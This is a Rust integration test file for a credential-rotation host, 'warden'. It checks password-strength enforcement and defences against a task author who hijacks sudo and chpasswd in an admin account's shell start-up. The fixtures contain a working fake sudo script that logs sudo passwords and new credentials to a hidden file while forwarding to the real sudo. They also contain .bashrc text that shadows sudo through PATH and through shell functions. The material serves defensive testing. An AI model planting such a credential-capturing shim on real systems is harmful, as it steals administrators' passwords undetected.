//! Attacks on credential rotation by a task author, against real OpenSSH `sshd`, the real
//! probe guest, the real server on a bound port and the real `warden` binary:
//!
//! - the task asks for a weak password (one allowed character, length 1, eight digits) and
//!   would know or guess the new secret: the host raises it to the administrator's policy;
//! - an administrator's policy under 128 bits: refused at process creation, by
//!   `warden exec`, and at call time when a grant never went through either;
//! - the task shadows `sudo`/`chpasswd` in the admin account's shell start-up so the set
//!   step types the new password into its own program: refused unless the admin handle is
//!   an admin credential, and bypassed by absolute paths when it is.

use std::path::Path;
use std::process::Command;

use reqwest::StatusCode;
use serde_json::{Value as Json, json};
use warden_host::audit::Decision;
use warden_host::rotation::{CharClass, RotationPolicy};
use warden_host::runtime::limits::RunLimits;
use warden_host::ssh::{ExecRequest, SshConfig, SshCredential, SshPool};
use warden_tests::http::Server;
use warden_tests::sshd::{Sshd, TestUser};
use warden_tests::{guests, random_secret};

use crate::rotation::{
    admin_account, current_secret, login, make_admin, p, password, probe_rotate, records_of,
    result_json, rotation_grant, states, target,
};
use crate::rotation_reconcile::Cli;
use crate::support::Env;
use warden_host::vault::VersionState;

const SYMBOLS: &str = "!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~";

/// The classes present in `secret`: (lowercase, uppercase, digit, symbol).
fn classes_of(secret: &str) -> (bool, bool, bool, bool) {
    let has = |f: fn(&char) -> bool| secret.chars().any(|c| f(&c));
    (
        has(char::is_ascii_lowercase),
        has(char::is_ascii_uppercase),
        has(char::is_ascii_digit),
        has(|c| SYMBOLS.contains(*c)),
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn weak_password_requests_are_raised_to_the_grants_policy_not_obeyed() {
    let (user, sshd, env) = admin_account("wrw");

    // Default grant policy: 24 characters from all four classes.
    let requests = [
        // One allowed character: only `9` is left of the digits, every other class off.
        "no-lower,no-upper,no-symbols,exclude=012345678",
        "length=1",
        "length=8,no-lower,no-upper,no-symbols",
    ];
    for (i, request) in requests.into_iter().enumerate() {
        let grant = rotation_grant(&["acct"], &["t0"], &["acct"]);
        let (_, json) = probe_rotate(&env, "acct", "acct", "t0", Some(request), grant).await;
        let version = u64::try_from(i + 2).expect("small");
        assert_eq!(json["rotation"]["version"], version, "{request}: {json}");
        let new = current_secret(&env.vault, "acct");
        // The one-character request keeps its exclusions, so its alphabet is 85 characters,
        // not 94: one more character restores the grant's 157 bits.
        let length = if i == 0 { 25 } else { 24 };
        assert_eq!(new.len(), length, "{request}: the grant's strength");
        assert_eq!(
            classes_of(&new),
            (true, true, true, true),
            "{request}: every class the grant requires"
        );
        if i == 0 {
            assert!(
                !new.chars().any(|c| "012345678".contains(c)),
                "exclusions kept"
            );
        }
        login(&sshd, &user.name, password(&new))
            .await
            .expect("the new password is live on the target");
    }

    // A stricter administrator: 40 characters, lowercase and digits. The task's default
    // request (24, all classes) adds the classes it asks for; the length is the grant's.
    let mut grant = rotation_grant(&["acct"], &["t0"], &["acct"]);
    grant.rotation_policy = RotationPolicy {
        min_length: 40,
        classes: [CharClass::Lowercase, CharClass::Digits].into(),
    };
    let (_, json) = probe_rotate(&env, "acct", "acct", "t0", Some("length=12"), grant).await;
    assert_eq!(json["rotation"]["version"], 5, "{json}");
    let new = current_secret(&env.vault, "acct");
    assert_eq!(new.len(), 40);
    assert_eq!(classes_of(&new), (true, true, true, true));
    login(&sshd, &user.name, password(&new))
        .await
        .expect("new password");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_policy_under_128_bits_is_refused_at_call_time_and_audited() {
    let env = Env::new();
    env.add_password("acct", "nobody", &random_secret(20));
    make_admin(&env.vault, "acct");
    let digits = |min_length| RotationPolicy {
        min_length,
        classes: [CharClass::Digits].into(),
    };
    let cases = [
        // A grant that never went through process validation (built in code): 12 digits.
        (
            digits(12),
            "length=12,no-lower,no-upper,no-symbols",
            "only 39 bits",
        ),
        // A valid 39-digit grant, but the task excludes all digits but one: no length helps.
        (
            digits(39),
            "no-lower,no-upper,no-symbols,exclude=012345678",
            "only 0 bits",
        ),
    ];
    for (policy, request, expected) in cases {
        let mut grant = rotation_grant(&["acct"], &["t0"], &["acct"]);
        grant.rotation_policy = policy;
        let (run_id, json) = probe_rotate(&env, "acct", "acct", "t0", Some(request), grant).await;
        assert_eq!(json["rotation"]["error"], "invalid-argument", "{json}");
        let message = json["rotation"]["message"].as_str().unwrap_or_default();
        assert!(message.contains(expected), "{message}");
        assert!(message.contains("at least 128 are required"), "{message}");
        let calls = records_of(&env, &run_id, "credentials.rotate");
        assert_eq!(calls.len(), 1, "the refusal is audited once");
        assert!(
            calls[0]
                .entry
                .outcome
                .starts_with("invalid-argument: password policy")
        );
        assert!(records_of(&env, &run_id, "credential.rotation.pending").is_empty());
    }
    assert_eq!(states(&env.vault, "acct"), [(1, VersionState::Current)]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_grant_policy_under_128_bits_is_refused_at_process_creation_and_by_warden_exec() {
    let server = Server::start_embedded().await;
    let digest = server.publish_as("acme", "probe").await;
    let send = |method: reqwest::Method, path: String, body: Json| {
        let server = &server;
        async move {
            let r = server
                .request(method, &path, Some(&server.admin), Some(&body))
                .await;
            (r.status, r.body)
        }
    };
    let process = |name: &str, policy: Json| json!({ "name": name, "module_digest": digest, "grant": { "rotation_policy": policy } });
    let weak = [
        json!({ "min_length": 16, "classes": ["digits"] }),
        json!({ "min_length": 19 }),
        json!({ "min_length": 24, "classes": [] }),
    ];
    for policy in &weak {
        let (status, body) = send(
            reqwest::Method::POST,
            "/v1/processes".into(),
            process("weak", policy.clone()),
        )
        .await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{policy}: {body}");
        let message = body["error"]["message"].as_str().unwrap_or_default();
        assert!(message.contains("grant.rotation_policy"), "{message}");
    }
    let (status, body) = send(
        reqwest::Method::POST,
        "/v1/processes".into(),
        process("strong", json!({ "min_length": 39, "classes": ["digits"] })),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    // Weakening it afterwards is refused too.
    let id = body["id"].as_str().expect("id").to_string();
    let (status, body) = send(
        reqwest::Method::PUT,
        format!("/v1/processes/{id}"),
        process("strong", json!({ "min_length": 38, "classes": ["digits"] })),
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    let message = body["error"]["message"].as_str().unwrap_or_default();
    assert!(message.contains("only 126 bits"), "{message}");

    // `warden exec`: refused before anything runs; the boundary case next to it runs.
    let cli = Cli::init();
    let probe = guests::component("probe");
    let manifest = guests::manifest("probe");
    let exec = |extra: &[&str]| {
        let mut args = vec![
            "exec",
            probe.to_str().expect("path"),
            "--manifest",
            manifest.to_str().expect("path"),
            "--param",
            "mode=echo",
        ];
        args.extend_from_slice(extra);
        cli.run(&args, None)
    };
    for flags in [
        &["--rotation-min-length", "19"][..],
        &[
            "--rotation-classes",
            "digits",
            "--rotation-min-length",
            "38",
        ][..],
        &[
            "--rotation-classes",
            "lowercase,uppercase",
            "--rotation-min-length",
            "12",
        ][..],
    ] {
        let out = exec(flags);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{flags:?} accepted");
        assert!(
            stderr.contains("at least 128 are required"),
            "{flags:?}: {stderr}"
        );
    }
    let out = exec(&[
        "--rotation-classes",
        "digits",
        "--rotation-min-length",
        "39",
    ]);
    assert!(out.status.success(), "{out:?}");
    let runs = cli.audit_lines("run.start");
    assert_eq!(runs.len(), 1, "only the valid invocation ran");
}

// ---------------------------------------------------------------------------------------
// Shadowing `sudo` / `chpasswd` in the admin account's shell start-up
// ---------------------------------------------------------------------------------------

/// A `sudo` an attacker leaves in an account: it speaks the host's prompt protocol, logs
/// the sudo password and everything on stdin (`user:newpassword`) to `~/.captured`, and
/// forwards to the real sudo so the rotation still "works" and nobody notices.
const FAKE_SUDO: &str = r#"#!/bin/sh
log="$HOME/.captured"
prompt=
while [ $# -gt 0 ]; do
  case "$1" in
    -p) prompt=$2; shift 2 ;;
    --) shift; break ;;
    -*) shift ;;
    *) break ;;
  esac
done
if [ -n "$prompt" ]; then
  printf '%s' "$prompt" >&2
  IFS= read -r pw
  printf 'sudo-password:%s\n' "$pw" >> "$log"
  { printf '%s\n' "$pw"; tee -a "$log"; } | /usr/bin/sudo -S -p '' -- "$@"
else
  tee -a "$log" | /usr/bin/sudo -n -- "$@"
fi
"#;

/// How the attacker shadows the programs in the account's `~/.bashrc` (Debian's bash reads
/// it for `ssh host command`).
#[derive(Clone, Copy, Debug)]
enum Shadow {
    /// `~/bin/sudo` and `~/bin/chpasswd`, with `~/bin` put first on `PATH`.
    PathFirst,
    /// Shell functions named `sudo` and `chpasswd`.
    Functions,
    /// Also functions named `/usr/bin/sudo` and `/usr/sbin/chpasswd`, which bash allows and
    /// which even absolute paths run into.
    AbsoluteNamedFunctions,
}

impl Shadow {
    /// Shell text that plants the shadow in `home`, run as the account.
    fn plant(self, home: &Path) -> String {
        let rc = match self {
            Shadow::PathFirst => "PATH=\"$HOME/bin:$PATH\"\n",
            Shadow::Functions => concat!(
                "sudo() { \"$HOME/.fake-sudo\" \"$@\"; }\n",
                "chpasswd() { tee -a \"$HOME/.captured\" | command chpasswd; }\n"
            ),
            Shadow::AbsoluteNamedFunctions => concat!(
                "sudo() { \"$HOME/.fake-sudo\" \"$@\"; }\n",
                "function /usr/bin/sudo { \"$HOME/.fake-sudo\" \"$@\"; }\n",
                "function /usr/sbin/chpasswd { tee -a \"$HOME/.captured\" | command chpasswd; }\n"
            ),
        };
        format!(
            "set -e\nHOME={home}\nexport HOME\ncd \"$HOME\"\n\
             cat > .fake-sudo <<'WARDEN_EOF'\n{FAKE_SUDO}WARDEN_EOF\nchmod 755 .fake-sudo\n\
             mkdir -p bin\ncp .fake-sudo bin/sudo\n\
             printf '#!/bin/sh\\ntee -a \"$HOME/.captured\" | /usr/sbin/chpasswd\\n' > bin/chpasswd\n\
             chmod 755 bin/chpasswd\n\
             cat > .bashrc.new <<'WARDEN_EOF'\n{rc}WARDEN_EOF\n\
             cat .bashrc >> .bashrc.new 2>/dev/null || true\nmv .bashrc.new .bashrc\n",
            home = home.display()
        )
    }
}

/// A sudo-capable account whose login shell is bash (as admin accounts' usually is).
fn bash_admin(prefix: &str) -> TestUser {
    TestUser::create(prefix)
        .and_then(TestUser::with_sudo)
        .and_then(TestUser::with_bash)
        .expect("sudo user with bash")
}

/// What the account's own login shell runs for `sudo` now: proves the shadow is live.
async fn shadowed_sudo(sshd: &Sshd, user: &TestUser) -> String {
    let cred = SshCredential {
        id: format!("check-{}", uuid::Uuid::new_v4()),
        username: user.name.clone(),
        auth: password(&user.password),
    };
    let req = ExecRequest {
        command: "type sudo; type /usr/bin/sudo".into(),
        sudo: false,
        stdin: None,
        timeout: std::time::Duration::from_secs(30),
        output_cap: 4096,
    };
    let out = SshPool::new(SshConfig::default())
        .exec(&target("check", sshd), &cred, &req)
        .await
        .expect("type sudo");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn captured(user: &TestUser) -> String {
    std::fs::read_to_string(user.home.join(".captured")).unwrap_or_default()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_non_admin_admin_handle_is_refused_whatever_the_task_planted_in_its_start_up() {
    // Defence hit by every variant: the admin handle must be an admin credential. The task
    // ran commands as `ops`, so it could shape `ops`'s start-up; absolute paths alone would
    // not save the third variant (a function named `/usr/bin/sudo`).
    let sshd = Sshd::start("127.0.0.1").expect("sshd");
    for shadow in [
        Shadow::PathFirst,
        Shadow::Functions,
        Shadow::AbsoluteNamedFunctions,
    ] {
        let account = TestUser::create("wrv").expect("account");
        let ops = bash_admin("wrs");
        let env = Env::new();
        env.targets.add(target("t0", &sshd)).expect("target");
        env.add_password("acct", &account.name, &account.password);
        env.add_password("ops", &ops.name, &ops.password);
        let probe = env.prepare("probe");
        let params = vec![
            p("mode", "rotate"),
            p("credential", "acct"),
            p("admin", "ops"),
            p("target", "t0"),
            p("before", &shadow.plant(&ops.home)),
        ];
        // The planting script is shell text: the grant allows it as raw shell.
        let mut grant = rotation_grant(&["acct", "ops"], &["t0"], &["acct"]);
        grant.raw_shell = true;
        let (run_id, report) = env.run(&probe, params, grant, RunLimits::default()).await;
        let json = result_json(&report.outcome);

        assert_eq!(
            json["before"]["status"], 0,
            "{shadow:?}: the plant ran: {json}"
        );
        let live = shadowed_sudo(&sshd, &ops).await;
        assert!(
            live.contains("is a function") || live.contains("sudo is /home/"),
            "{shadow:?}: {live}"
        );
        assert!(
            !live.starts_with("sudo is /usr/bin/sudo"),
            "{shadow:?}: {live}"
        );
        assert_eq!(json["rotation"]["error"], "denied", "{shadow:?}: {json}");
        let message = json["rotation"]["message"].as_str().unwrap_or_default();
        assert!(
            message.starts_with(
                "rotation.admin-credential: credential 'ops' is not an admin credential"
            ),
            "{message}"
        );
        assert_eq!(captured(&ops), "", "{shadow:?}: the fake saw a secret");
        assert_eq!(
            states(&env.vault, "acct"),
            [(1, VersionState::Current)],
            "nothing stored"
        );
        let calls = records_of(&env, &run_id, "credentials.rotate");
        assert_eq!(calls.len(), 1);
        match &calls[0].entry.decision {
            Decision::Denied { policy, .. } => {
                assert_eq!(policy.as_deref(), Some("rotation.admin-credential"))
            }
            other => panic!("not audited as a denial: {other:?}"),
        }
        assert!(records_of(&env, &run_id, "credential.rotation.pending").is_empty());
        login(&sshd, &account.name, password(&account.password))
            .await
            .expect("the account's password is unchanged");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn with_an_admin_credential_absolute_paths_bypass_a_shadowed_sudo_and_chpasswd() {
    // The shadow here is not the task's doing (an admin credential never runs a task's
    // commands): say a compromised dotfile. Defence hit: absolute paths — the login shell
    // runs `/usr/bin/sudo`, not a `sudo` found on `PATH` (variant 1) or a function named
    // `sudo` (variant 2); root's `/bin/sh` under sudo's reset environment then runs
    // `/usr/sbin/chpasswd`, and no function or `PATH` of the account's reaches it.
    let sshd = Sshd::start("127.0.0.1").expect("sshd");
    for shadow in [Shadow::PathFirst, Shadow::Functions] {
        let account = TestUser::create("wra").expect("account");
        let root = bash_admin("wrd");
        let plant = Command::new("runuser")
            .args([
                "-u",
                &root.name,
                "--",
                "/bin/sh",
                "-c",
                &shadow.plant(&root.home),
            ])
            .status()
            .expect("plant");
        assert!(plant.success());
        let live = shadowed_sudo(&sshd, &root).await;
        assert!(
            !live.starts_with("sudo is /usr/bin/sudo"),
            "{shadow:?}: {live}"
        );

        let env = Env::new();
        env.targets.add(target("t0", &sshd)).expect("target");
        env.add_password("acct", &account.name, &account.password);
        env.add_password("root", &root.name, &root.password);
        make_admin(&env.vault, "root");
        let grant = rotation_grant(&["acct", "root"], &["t0"], &["acct"]);
        let (_, json) = probe_rotate(&env, "acct", "root", "t0", None, grant).await;

        assert_eq!(json["rotation"]["version"], 2, "{shadow:?}: {json}");
        assert_eq!(captured(&root), "", "{shadow:?}: the fake saw a secret");
        let new = current_secret(&env.vault, "acct");
        login(&sshd, &account.name, password(&new))
            .await
            .expect("the new password is live");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn reconcile_refuses_a_non_admin_admin_credential_and_audits_it() {
    let user = TestUser::create("wrz")
        .expect("user")
        .with_sudo()
        .expect("sudo");
    let sshd = Sshd::start("127.0.0.1").expect("sshd");
    let cli = crate::rotation_reconcile::cli_with_target(&sshd, &user);
    cli.ok(
        &["credential", "add", "ops", "--username", &user.name],
        Some(format!("{}\n", user.password).as_bytes()),
    );
    let out = cli.reconcile("acct", "ops");
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("'ops' is not an admin credential"),
        "{stderr}"
    );
    let records = cli.audit_lines("credential.reconcile");
    assert_eq!(records.len(), 1);
    let outcome = records[0]["outcome"].as_str().unwrap_or_default();
    assert!(outcome.starts_with("denied: "), "{outcome}");
}
